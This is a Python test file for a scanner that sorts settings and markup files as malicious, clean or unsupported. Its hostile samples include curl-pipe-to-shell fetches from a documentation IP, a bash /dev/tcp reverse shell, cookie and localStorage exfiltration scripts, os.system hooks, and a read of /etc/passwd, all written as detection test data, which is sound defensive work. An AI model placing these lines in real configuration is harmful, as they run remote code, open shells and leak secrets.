"""Settings in TOML, INI, gin and markup: commands and imports are judged in any syntax."""
# ruff: noqa: E501 -- samples stand in one piece

from __future__ import annotations

from agents.checks.artifacts.dispatch import scan_source
from agents.checks.artifacts.scanning import BytesSource
from schemas.severity import Verdict
from tests.each import each

FETCH = "curl -s http://203.0.113.9/a | sh"
HOSTILE = {
    "tox.ini": f"[testenv]\ndeps = pytest\ncommands =\n    pytest\n    {FETCH}\n",
    "tox-pre.ini": f"[testenv]\ncommands_pre = {FETCH}\n",
    "supervisord.conf": f"[program:model]\ncommand = bash -c '{FETCH}'\n",
    "model.service": f"[Service]\nExecStartPre=/bin/sh -c '{FETCH}'\n",
    "a.gitconfig": f'[core]\n\tfsmonitor = "{FETCH}"\n',
    "alias.gitconfig": f"[alias]\n\tst = !{FETCH}\n",
    "poe.toml": f"[tool.poe.tasks]\ntest = '{FETCH}'\n",
    "hatch.toml": f"[envs.default.scripts]\ntest = ['pytest', '{FETCH}']\n",
    "settings.toml": "[model]\n_target_ = 'os.system'\ncommand = 'true'\n",
    "config.toml": "[model]\nclass = 'subprocess.Popen'\n",
    "logging.ini": "[handler_a]\nclass = StreamHandler\nargs = (__import__('os').system('true'),)\n",
    "pylint.cfg": "[MASTER]\ninit-hook = import os; os.system('curl http://203.0.113.9/a | sh')\n",
    "model.gin": "from __gin__ import dynamic_registration\nimport os\ntrain.hook = @os.system()\n",
    "bound.gin": "import subprocess\nsubprocess.Popen.args = 'true'\n",
    "alias.gin": "from os import system as run\ntrain.hook = @scope/run()\n",
    "include.gin": "include '../../outside/a.gin'\n",
    "report.html": "<html><script>fetch('http://203.0.113.9/?'+document.cookie)</script></html>",
    "report.htm": "<html><script>new ActiveXObject('WScript.Shell').Run('x')</script></html>",
    "decoded.html": "<html><script>eval(atob('YWxlcnQoMSk='))</script></html>",
    "a.svg": "<svg onload=\"fetch('http://203.0.113.9/?c='+localStorage)\"></svg>",
    "Containerfile": f"FROM python\nRUN {FETCH}\n",
    "Justfile": f"test:\n  {FETCH}\n",
    "user_dir.yaml": "common:\n  user_dir: /tmp/plugins\n",
    "user_dir.json": '{"common": {"user_dir": "https://203.0.113.9/plugins"}}',
    "user_dir.toml": "[common]\nuser_dir = '../../plugins'\n",
    "configuration.json": '{"framework": "pytorch", "plugins": ["https://203.0.113.9/a.zip"]}',
    "include.yaml": "__include__: ['https://203.0.113.9/a.yml']\n",
    "base.yaml": "_BASE_: /etc/a.yml\n",
    "config.jsonnet": "{a: importstr '/etc/passwd'}",
    "custom_imports.json": '{"custom_imports": {"imports": ["subprocess"]}}',
}
HARMLESS = {
    "tox.ini": "[tox]\nenvlist = py311\n[testenv]\ndeps =\n    pytest\ncommands = pytest {posargs}\n",
    "setup.cfg": "[metadata]\nname = a\n[options]\ninstall_requires =\n    numpy\n",
    "config.cfg": '[nlp]\nlang = "en"\npipeline = ["tok2vec"]\n[components.tok2vec]\nfactory = "tok2vec"\n',
    "logging.ini": "[handler_a]\nclass = StreamHandler\nargs = (sys.stdout,)\n[loggers]\nkeys = root\n",
    "pyproject.toml": "[project]\nname = 'a'\nversion = '1'\n[tool.poe.tasks]\ntest = 'pytest -q'\n",
    "config.toml": "[model]\n_target_ = 'torch.nn.Linear'\nin_features = 3\n",
    "t5.gin": "import t5.models\nfrom t5.data import x\ninclude 'base.gin'\n"
    "Linear.units = 3\ntrain.lr = 1e-3\ntrain.opt = @Adam()\nscope/Dense.rate = %RATE\n",
    "a.svg": "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>",
    "a.html": "<html><body><h1>Results</h1></body></html>",
    "a.properties": "min_workers=1\nmodel_store=/models\nload_models=all\n",
    "user_dir.yaml": "common:\n  user_dir: null\n  seed: 1\n",
    "include.yaml": "__include__: ['../dataset/coco.yml', '../runtime.yml']\n",
    "configuration.json": '{"framework": "pytorch", "task": "x", "plugins": []}',
}
UNKNOWN = {
    "plot.html": "<html><script>Plotly.newPlot('a', [1, 2]);</script></html>",
    "model.jsonnet": "{a: 1}",
    "absent.htm": "<html><body onload='draw()'></body></html>",
}


def report(name, text):
    return scan_source(name, BytesSource(text.encode()))


@each(("name", "text"), HOSTILE.items())
def test_settings_that_run_commands_are_malicious(name, text):
    assert report(name, text).verdict is Verdict.MALICIOUS


@each(("name", "text"), HARMLESS.items())
def test_ordinary_settings_are_clean(name, text):
    found = report(name, text)
    assert (found.verdict, found.reasons) == (Verdict.CLEAN, ())


@each(("name", "text"), UNKNOWN.items())
def test_unanalysed_settings_are_not_clean(name, text):
    assert report(name, text).verdict is Verdict.UNSUPPORTED


def test_svg_with_a_script_is_reported():
    assert report("a.svg", "<svg><script>draw()</script></svg>").verdict is Verdict.SUSPICIOUS


def test_settings_that_can_not_be_read_are_not_clean():
    assert report("a.toml", "[a\nb = ").verdict is Verdict.CORRUPT


def test_import_of_missing_local_code_is_suspicious():
    assert report("train.yaml", "common:\n  user_dir: examples/x\n").verdict is Verdict.SUSPICIOUS


@each("command", [FETCH, "bash -i >& /dev/tcp/203.0.113.9/1 0>&1"])
@each("key", ["run", "command", "entrypoint", "commands"])
def test_a_command_under_a_key_that_runs_it_is_malicious_in_yaml_too(key, command):
    assert report("task.yaml", f"{key}: '{command}'\n").verdict is Verdict.MALICIOUS
